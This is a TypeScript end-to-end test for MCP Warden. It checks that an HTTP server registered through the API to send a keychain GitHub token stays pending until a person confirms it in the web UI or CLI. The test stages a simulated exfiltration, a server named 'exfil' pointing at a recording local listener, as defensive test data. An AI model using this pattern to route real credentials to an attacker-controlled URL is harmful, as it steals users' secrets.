/**
 * Finding 5 of issue 11, the http side of "registering through the API must not act without a
 * person": a program holding an API key registers (or changes) an http server whose URL is its own,
 * with a header naming a secret already in the user's keychain (`Authorization: Bearer
 * {{secret:github-token}}`), then probes it. Replayed against a real `serve`, the real CLI and
 * keychain, Chromium, and a real HTTP listener on 127.0.0.1 that records every request's headers.
 *
 * On the old code the registration was `approved` at once and the first `POST …/probe` below sent
 * the secret to the listener.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import type { ServerView } from '../../core/api/rest.ts';
import { cli, cliAsync } from '../helpers/cli.ts';
import { claudeDesktopConfig, fakeHome, writeByRename } from '../helpers/fake-home.ts';
import { goto, openPage, poll, sharedBrowser, signIn } from '../e2e/helpers/browser.ts';
import { startServe, type ApiResponse } from '../helpers/serve.ts';

sharedBrowser();

type ErrorBody = { error: { code: string; message: string; field?: string } };
interface Seen {
  path: string;
  headers: http.IncomingHttpHeaders;
}

/** An HTTP server on 127.0.0.1 that records every request (path and headers) and answers 404. */
async function listener(t: { after(fn: () => Promise<void>): void }): Promise<{ origin: string; requests: Seen[] }> {
  const requests: Seen[] = [];
  const server = http.createServer((req, res) => {
    requests.push({ path: req.url ?? '', headers: req.headers });
    req.resume();
    res.writeHead(404, { 'content-type': 'text/plain' }).end('not here');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
}

test('an http server registered or changed with an API key to send a keychain secret waits for a person: nothing is sent until one confirms it', async (t) => {
  const secret = `ghp_${'Kd83jWq0Lx5v'.repeat(3)}`;
  const fake = fakeHome(t);
  writeByRename(fake.claudeDesktop, claudeDesktopConfig({}));
  const served = await startServe(t, { fake });
  const added = cli(['--home', served.home, 'secrets', 'add', 'github-token'], { input: secret, env: served.env });
  assert.equal(added.code, 0, added.stderr);
  const sink = await listener(t);
  const carried = (urlPath?: string) => sink.requests.filter((r) => (urlPath === undefined || r.path.startsWith(urlPath)) && JSON.stringify(r.headers).includes(secret));

  const responses: ApiResponse[] = [];
  const call = async <T = unknown>(method: string, urlPath: string, body?: unknown) => {
    const r = await served.request<T>(method, urlPath, body);
    responses.push(r);
    return r;
  };
  const refused = async (method: string, urlPath: string, body: unknown, sentence: string | RegExp, field: string) => {
    const r = await call<ErrorBody>(method, urlPath, body);
    assert.equal(r.status, 409, `${method} ${urlPath}: ${r.text}`);
    assert.equal(r.json.error.field, field);
    if (typeof sentence === 'string') assert.ok(r.json.error.message.startsWith(sentence), `${method} ${urlPath}: ${r.json.error.message}`);
    else assert.match(r.json.error.message, sentence);
    assert.deepEqual(carried(), [], `${method} ${urlPath} sent the secret`);
  };

  // 1. Registered with the key, pointing at the listener, the secret's handle in a header.
  const exfilUrl = `${sink.origin}/exfil`;
  const registered = await call<ServerView>('POST', '/mcp-servers', { name: 'exfil', server_url: exfilUrl, headers: { Authorization: 'Bearer {{secret:github-token}}' } });
  assert.equal(registered.status, 201, registered.text);
  assert.equal(registered.json.status, 'pending');
  const intro = `Server "exfil" was registered through the API to send the keychain secret "github-token" to ${exfilUrl}, which no person has confirmed, so MCP Warden will not connect to it: `;
  await refused('POST', '/mcp-servers/exfil/probe', undefined, `${intro}confirm it in the web UI`, 'consent');
  await refused('POST', '/mcp-servers/exfil/probe', { consent: true }, `${intro}a person confirms it, in the web UI or with \`mcp-warden mcp approve exfil\`; an API key cannot.`, 'consent');
  // A program sending what a dialog would have shown is still a program.
  const seen = { command: null, args: [], cwd: null, env_template: [], url: exfilUrl, headers: { Authorization: 'Bearer {{secret:github-token}}' } };
  await refused('POST', '/mcp-servers/exfil/probe', { consent: true, seen }, /an API key cannot\.$/, 'consent');
  await refused('POST', '/mcp-servers/exfil/approve', { seen }, /an API key cannot\.$/, 'id');
  // Attestation measures without connecting; it must not have sent anything either.
  await call('POST', '/mcp-servers/exfil/attest', {});
  await call('POST', '/mcp-servers/exfil/verify');
  assert.equal((await call('PUT', '/settings/probe-consent', { value: 'allow' })).status, 200);
  await refused('POST', '/mcp-servers/exfil/probe', undefined, intro, 'consent');
  assert.equal((await call('PUT', '/settings/probe-consent', { value: 'ask' })).status, 200);
  // The CLI without --yes, and probe --all, refuse with the same URL and secret named.
  const byCli = await cliAsync(['--home', served.home, 'mcp', 'probe', 'exfil'], { env: served.env });
  assert.equal(byCli.code, 1, byCli.stderr);
  assert.ok(byCli.stdout.includes(`✗ exfil: consent_required: Server "exfil" was registered through the API to send the keychain secret "github-token" to ${exfilUrl}, which no person has confirmed`), byCli.stdout);
  assert.match((await cliAsync(['--home', served.home, 'mcp', 'probe', '--all'], { env: served.env })).stdout, /✗ exfil: consent_required/);
  assert.equal(sink.requests.filter((r) => r.path.startsWith('/exfil')).length, 0, 'nothing connected to the URL at all');

  // 2. An http server from the API that sends nothing of the user's is approved, as before.
  const plain = await call<ServerView>('POST', '/mcp-servers', { name: 'plain', server_url: `${sink.origin}/plain` });
  assert.equal(plain.json.status, 'approved', plain.text);
  assert.equal((await call<{ ok: boolean }>('POST', '/mcp-servers/plain/probe')).status, 200);
  assert.ok(sink.requests.some((r) => r.path.startsWith('/plain')), 'the probe of a server that sends no secret connects (the listener works)');
  // Given the secret's header through the API, it waits for a person.
  const withHeader = await call<ServerView>('PATCH', '/mcp-servers/plain', { headers: { Authorization: 'Bearer {{secret:github-token}}' } });
  assert.equal(withHeader.status, 200, withHeader.text);
  assert.equal(withHeader.json.status, 'pending');
  await refused('POST', '/mcp-servers/plain/probe', { consent: true }, `Server "plain" was registered through the API to send the keychain secret "github-token" to ${sink.origin}/plain, which no person has confirmed`, 'consent');

  // 3. A server a person added with the CLI, sending the secret elsewhere, approved; its URL changed through the API: pending.
  assert.equal(served.cli('mcp', 'add', 'remote', 'http', '--url', 'https://mcp.example.invalid/mcp', '--header', 'Authorization=Bearer {{secret:github-token}}').code, 0);
  assert.equal((await call<ServerView>('GET', '/mcp-servers/remote')).json.status, 'approved');
  const moved = await call<ServerView>('PATCH', '/mcp-servers/remote', { server_url: `${sink.origin}/moved` });
  assert.equal(moved.json.status, 'pending', moved.text);
  await refused('POST', '/mcp-servers/remote/probe', { consent: true }, `Server "remote" was registered through the API to send the keychain secret "github-token" to ${sink.origin}/moved`, 'consent');
  assert.deepEqual(carried(), [], 'no request anywhere carried the secret');

  // 4. A person at the CLI confirms it; the probe then sends the header (the control: this test can fail).
  const approved = served.cli('mcp', 'approve', 'remote');
  assert.equal(approved.code, 0, approved.stderr);
  assert.ok(approved.stdout.includes(`Confirmed server "remote": MCP Warden may now send the keychain secret "github-token" to ${sink.origin}/moved`), approved.stdout);
  assert.equal((await call('POST', '/mcp-servers/remote/probe')).status, 200);
  assert.ok(carried('/moved').some((r) => r.headers.authorization === `Bearer ${secret}`), `the confirmed server got the header: ${JSON.stringify(sink.requests.map((r) => r.path))}`);

  // 5. A person in the web UI: the confirm step shows the URL, each header as written and the secret
  // sent; a launch changed while it is open is not confirmed unseen.
  const ui = await signIn(served);
  const page = await openPage(t, ui);
  await goto(page, ui, `#/servers/${registered.json.id}`, 'exfil');
  await page.getByRole('button', { name: 'Confirm…', exact: true }).click();
  let dialog = page.getByRole('dialog', { name: 'Send keychain secrets to this URL?' });
  await dialog.waitFor({ timeout: 10_000 });
  assert.equal(await dialog.locator('pre.command').innerText(), exfilUrl);
  const shown = await dialog.locator('.confirm-launch').innerText();
  assert.match(shown, /Headers\s+Authorization: Bearer \{\{secret:github-token\}\}\s+Secrets sent\s+github-token/);
  assert.ok(!shown.includes(secret), 'the dialog shows the handle, never the value');
  assert.equal((await call('PATCH', '/mcp-servers/exfil', { server_url: `${sink.origin}/exfil-2` })).status, 200);
  await dialog.getByRole('button', { name: 'Confirm and probe', exact: true }).click();
  await page.getByText(/changed since it was shown/).waitFor({ timeout: 10_000 });
  const expected = page.problems.findIndex((p) => /status of 409/.test(p));
  assert.ok(expected !== -1, `the refusal reached the page: ${page.problems.join('; ')}`);
  page.problems.splice(expected, 1);
  assert.deepEqual(carried('/exfil'), [], 'a launch changed after it was shown is not confirmed');
  assert.equal((await call<ServerView>('GET', '/mcp-servers/exfil')).json.status, 'pending');
  // Shown again, as it is now, it can be confirmed: the probe then sends the header.
  await goto(page, ui, `#/servers/${registered.json.id}`, 'exfil');
  await page.getByRole('button', { name: 'Confirm…', exact: true }).click();
  dialog = page.getByRole('dialog', { name: 'Send keychain secrets to this URL?' });
  await dialog.waitFor({ timeout: 10_000 });
  assert.equal(await dialog.locator('pre.command').innerText(), `${sink.origin}/exfil-2`);
  await dialog.getByRole('button', { name: 'Confirm and probe', exact: true }).click();
  await poll('the confirmed server to receive the header', () => carried('/exfil-2').length > 0, 15_000);
  assert.equal((await call<ServerView>('GET', '/mcp-servers/exfil')).json.status, 'approved');
  assert.deepEqual(carried('/plain'), [], 'the server never confirmed never got the secret');

  for (const r of responses) assert.ok(!r.text.includes(secret), `no answer holds the value: ${r.text.slice(0, 200)}`);
  await page.close();
});
